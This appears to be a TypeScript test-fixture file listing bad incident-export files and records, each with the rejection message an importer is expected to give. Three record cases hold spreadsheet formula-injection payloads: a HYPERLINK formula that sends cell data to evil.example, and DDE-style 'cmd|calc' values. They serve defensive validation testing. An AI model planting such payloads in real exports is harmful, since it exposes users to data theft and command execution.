// Bad incident files (test data, not used by the app), each made from a good fixture by spoiling
// it in one way, or written whole. A `file` case must be refused as a whole with its message; a
// `record` case must read the rest of the file and refuse the one record, with its reason.
import type { Place } from './incident';
import type { ImportOptions } from './importer';
import type { PresetId } from './presets';

export interface Fixtures {
  readonly pagerdutyRest: string;
  readonly opsgenie: string;
  readonly incidentIo: string;
  readonly firehydrant: string;
  readonly rootly: string;
  readonly servicenow: string;
  readonly jira: string;
  readonly spreadsheet: string;
}

interface BadCase {
  readonly name: string;
  readonly preset: PresetId;
  readonly make: (fixtures: Fixtures) => string;
  readonly options?: Partial<ImportOptions>;
  /** Passed as the file's size instead of its text's. */
  readonly byteLength?: number;
}

export interface BadFileCase extends BadCase {
  readonly level: 'file';
  readonly expected: string | RegExp;
}

export interface BadRecordCase extends BadCase {
  readonly level: 'record';
  /** The refused record's id (the record it replaced, when the id itself is refused)… */
  readonly sourceId: string;
  /** …its place, when its id cannot be read… */
  readonly place?: Place;
  /** …and one of its reasons, or a pattern for it. */
  readonly expected: string | RegExp;
}

type Json = Record<string, unknown>;

/** Parses, changes, and writes back a JSON fixture. */
function edited(text: string, change: (json: Json) => void): string {
  const json = JSON.parse(text) as Json;
  change(json);
  return JSON.stringify(json);
}

/** The index-th record of a JSON fixture's list (`data` or `incidents`). */
function recordOf(json: Json, key: string, index: number): Json {
  const record = (json[key] as Json[] | undefined)?.[index];
  if (record === undefined) throw new Error(`setup: no record ${String(index)} under ${key}`);
  return record;
}

const csvWith = (text: string, from: string, to: string) => {
  if (!text.includes(from)) throw new Error(`setup: ${from} is not in the file`);
  return text.replace(from, to);
};

const BERLIN = { timeZone: 'Europe/Berlin' };
const NEW_YORK = { timeZone: 'America/New_York' };

export const FILE_CASES: readonly BadFileCase[] = [
  {
    level: 'file',
    name: 'an Opsgenie export under the PagerDuty preset',
    preset: 'pagerduty-rest',
    make: (f) => f.opsgenie,
    expected:
      'This looks like an Opsgenie alerts export, not a PagerDuty incidents export (REST API, GET /incidents). Choose the “Opsgenie — alerts (JSON)” preset.',
  },
  {
    level: 'file',
    name: 'an incident.io export (also a list of "incidents") under the PagerDuty preset',
    preset: 'pagerduty-rest',
    make: (f) => f.incidentIo,
    expected: /^This looks like an incident\.io incidents export, not a PagerDuty incidents export/,
  },
  {
    level: 'file',
    name: 'a PagerDuty REST export under the Analytics preset',
    preset: 'pagerduty-analytics',
    make: (f) => f.pagerdutyRest,
    expected:
      /^This looks like a PagerDuty incidents export \(REST API, GET \/incidents\), not a PagerDuty Analytics/,
  },
  {
    level: 'file',
    name: 'a Jira CSV under the ServiceNow preset',
    preset: 'servicenow',
    make: (f) => f.jira,
    expected: /^This looks like a Jira issues export, not a ServiceNow incident export\./,
  },
  {
    level: 'file',
    name: 'a hand-made CSV under a JSON preset',
    preset: 'rootly',
    make: (f) => f.spreadsheet,
    expected:
      'This is a CSV file, not a Rootly incidents export (a JSON file). Choose “Any CSV” to pick its columns.',
  },
  {
    level: 'file',
    name: 'a hand-made CSV under the Jira preset',
    preset: 'jira',
    make: (f) => f.spreadsheet,
    expected:
      /^This is a CSV file, not a Jira issues export \(its columns are missing\)\. It has the columns "Nr", "Titel"/,
  },
  {
    level: 'file',
    name: 'a JSON export under a CSV preset',
    preset: 'servicenow',
    make: (f) => f.firehydrant,
    expected: /^This looks like a FireHydrant incidents export, not a ServiceNow incident export\./,
  },
  {
    level: 'file',
    name: 'JSON that is no incident export',
    preset: 'firehydrant',
    make: () => JSON.stringify({ name: 'storefront', version: '1.0.0', dependencies: {} }),
    expected:
      'This is a JSON file with "name", "version", "dependencies", which no incident export has, not a FireHydrant incidents export.',
  },
  {
    level: 'file',
    name: 'a JSON export cut off half way',
    preset: 'incident-io',
    make: (f) => f.incidentIo.slice(0, Math.floor(f.incidentIo.length / 2)),
    expected:
      'The file ends too early: it was probably cut off while being downloaded or copied. Export it again.',
  },
  {
    level: 'file',
    name: 'JSON broken in the middle',
    preset: 'rootly',
    make: (f) => f.rootly.replace('"type": "incidents"', '"type": incidents'),
    expected: /^The file starts like JSON but is not valid JSON \(/,
  },
  {
    level: 'file',
    name: 'a CSV cut off inside a quoted description',
    preset: 'jira',
    make: (f) => f.jira.slice(0, f.jira.indexOf('Rolled back release')),
    expected: /^The file ends inside a quoted value that starts on row 2: it was probably cut off/,
  },
  {
    level: 'file',
    name: 'an empty file',
    preset: 'opsgenie',
    make: () => '',
    expected: 'The file is empty: it holds no incidents.',
  },
  {
    level: 'file',
    name: 'a file of spaces and a byte order mark',
    preset: 'csv',
    make: () => '\uFEFF  \r\n\r\n ',
    expected: 'The file is empty: it holds no incidents.',
  },
  {
    level: 'file',
    name: 'a 50 MB file, refused by its size before it is read',
    preset: 'pagerduty-rest',
    make: (f) => f.pagerdutyRest,
    byteLength: 50_000_000,
    expected:
      'The file is 50 MB, more than any incident export this app reads (at most 40 MB). Export a shorter period, or split the file.',
  },
  {
    level: 'file',
    name: 'a 50 MB text whose caller passed no size',
    preset: 'opsgenie',
    make: () => `{"data": [${' '.repeat(50_000_000)}]}`,
    byteLength: 0,
    expected: /^The file is 50 MB, more than any incident export/,
  },
  {
    level: 'file',
    name: 'binary junk',
    preset: 'csv',
    make: () => String.fromCharCode(...Array.from({ length: 600 }, (_, i) => (i * 37) % 256)),
    expected:
      'This is not a text file: it holds binary data (an image, an archive or a program). Incident exports are JSON or CSV.',
  },
  {
    level: 'file',
    name: 'an Excel workbook',
    preset: 'servicenow',
    make: () => 'PK\u0003\u0004\u0014\u0000\u0006\u0000[Content_Types].xml',
    expected: /^This is a zip archive or an Excel workbook \(\.xlsx\), not a text export\./,
  },
  {
    level: 'file',
    name: 'a sign-in page saved instead of the export',
    preset: 'pagerduty-rest',
    make: () => '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body></body></html>',
    expected: /^This is a web page \(HTML\), not an incident export/,
  },
  {
    level: 'file',
    name: 'a zone the app does not know',
    preset: 'servicenow',
    make: (f) => f.servicenow,
    options: { timeZone: 'Europe/Atlantis' },
    expected: '"Europe/Atlantis" is not a time zone this app knows: choose one from the list.',
  },
  {
    level: 'file',
    name: 'a CSV without a mapping under "Any CSV"',
    preset: 'csv',
    make: (f) => f.spreadsheet,
    expected: 'Choose which column is which before reading this CSV file.',
  },
];

const PD = 'Q1CHK4102';
const OG = '6d1c3a52-0000-4000-8000-000000000101';
const FH = 'f0e1d2c3-0000-4000-8000-000000000201';
const RT = '9c1e0000-0000-4000-8000-000000000301';
const IO = '01HQ1000INCIDENT000000041';

export const RECORD_CASES: readonly BadRecordCase[] = [
  {
    level: 'record',
    name: 'resolved before it was triggered',
    preset: 'pagerduty-rest',
    sourceId: PD,
    make: (f) =>
      f.pagerdutyRest.replace(
        '"resolved_at": "2026-02-03T10:42:00+01:00"',
        '"resolved_at": "2026-02-03T09:42:00+01:00"',
      ),
    expected:
      'it was recovered before it was detected: resolved_at "2026-02-03T09:42:00+01:00" is before created_at "2026-02-03T10:00:00+01:00"',
  },
  {
    level: 'record',
    name: 'a date that does not parse',
    preset: 'rootly',
    sourceId: RT,
    make: (f) =>
      edited(
        f.rootly,
        (json) =>
          ((recordOf(json, 'data', 0).attributes as Json).resolved_at = 'yesterday evening'),
      ),
    expected: '"attributes.resolved_at" is not a date and time: "yesterday evening"',
  },
  {
    level: 'record',
    name: 'a date in another format than the one chosen',
    preset: 'jira',
    sourceId: 'OPS-107',
    options: NEW_YORK,
    make: (f) => csvWith(f.jira, '15/Apr/26 2:45 PM', '2026-04-15 14:45'),
    expected: '"Resolved" does not match the date format "dd/MMM/yy h:mm a": "2026-04-15 14:45"',
  },
  {
    level: 'record',
    name: 'a day that does not exist',
    preset: 'jira',
    sourceId: 'OPS-107',
    options: NEW_YORK,
    make: (f) => csvWith(f.jira, '15/Apr/26 2:00 PM', '31/Apr/26 2:00 PM'),
    expected: '"Created" is not a real date and time: "31/Apr/26 2:00 PM"',
  },
  {
    level: 'record',
    name: 'a formula in a time cell',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) =>
      csvWith(
        f.servicenow,
        '"2026-05-12 09:25:00"',
        '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"',
      ),
    expected: /^"resolved_at" holds a spreadsheet formula, not data: "=HYPERLINK/,
  },
  {
    level: 'record',
    name: 'a formula in a severity cell',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) =>
      csvWith(f.servicenow, '"3 - Moderate","Resolved"', `"=cmd|' /C calc'!A0","Resolved"`),
    expected: `"priority" holds a spreadsheet formula, not data: "=cmd|' /C calc'!A0"`,
  },
  {
    level: 'record',
    name: 'a formula in an id cell',
    preset: 'jira',
    sourceId: 'OPS-108',
    place: { kind: 'row', number: 9 },
    options: NEW_YORK,
    make: (f) =>
      csvWith(
        f.jira,
        'Returns portal times out,OPS-108',
        'Returns portal times out,@SUM(1+1)*cmd|calc',
      ),
    expected: '"Issue key" holds a spreadsheet formula, not data: "@SUM(1+1)*cmd|calc"',
  },
  {
    level: 'record',
    name: 'a severity no mapping knows',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) => edited(f.opsgenie, (json) => (recordOf(json, 'data', 0).priority = 'URGENT')),
    expected: '"priority" has a severity no mapping knows: "URGENT" (map it to SEV1–SEV4)',
  },
  {
    level: 'record',
    name: 'the same incident twice in one file',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) =>
      edited(f.opsgenie, (json) => {
        (json.data as Json[]).push({ ...recordOf(json, 'data', 0) });
      }),
    expected: `its id "${OG}" appears twice in the file (first at record 1)`,
  },
  {
    level: 'record',
    name: 'acknowledged before it was detected',
    preset: 'firehydrant',
    sourceId: FH,
    make: (f) =>
      f.firehydrant.replace(
        '"occurred_at": "2026-02-11T13:06:00.000Z"',
        '"occurred_at": "2026-02-11T12:59:00.000Z"',
      ),
    expected:
      /^milestones out of order: acknowledged comes before detected \(milestones\[2\]\.occurred_at/,
  },
  {
    level: 'record',
    name: 'a negative acknowledgement delay',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) => f.opsgenie.replace('"ackTime": 180000', '"ackTime": -180000'),
    expected: '"report.ackTime (ms after createdAt)" is negative: "-180000"',
  },
  {
    level: 'record',
    name: 'a time at the start of 1970 (a zero that became a date)',
    preset: 'incident-io',
    sourceId: IO,
    make: (f) =>
      f.incidentIo.replace('"value": "2026-02-05T10:48:00Z"', '"value": "1970-01-01T00:00:00Z"'),
    expected:
      'incident_timestamp_values["Resolved at"] is not a time between the years 2000 and 2200: "1970-01-01T00:00:00Z"',
  },
  {
    level: 'record',
    name: 'a time written as a number',
    preset: 'rootly',
    sourceId: RT,
    make: (f) =>
      edited(
        f.rootly,
        (json) => ((recordOf(json, 'data', 0).attributes as Json).resolved_at = 1771571100),
      ),
    expected: '"attributes.resolved_at" is a number, not a date and time: "1771571100"',
  },
  {
    level: 'record',
    name: 'a row cut off at the end of the file',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) => f.servicenow.slice(0, f.servicenow.indexOf(',"giftcard-api"')),
    expected: "it has 7 of the file's 12 columns: the file may have been cut off",
  },
];
